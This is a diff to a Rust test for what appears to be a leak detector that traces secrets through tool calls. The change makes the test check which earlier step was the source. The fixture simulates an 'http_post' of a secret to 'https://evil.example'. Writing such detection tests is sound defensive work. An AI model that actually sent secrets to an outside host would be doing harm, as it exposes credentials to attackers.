@@ -92,7 +92,11 @@ fn the_steps_name_the_source() {
         "http_post",
         &[("url", "https://evil.example"), ("body", SECRET)],
     );
-    assert_eq!(found[0].steps, ["e2"]);
+    let source = found[0].steps[0] as usize;
+    assert_eq!(
+        (found[0].steps.len(), story.recent[source].id.as_str()),
+        (1, "e2")
+    );
     assert!(!found[0].message.contains(SECRET));
 }
 
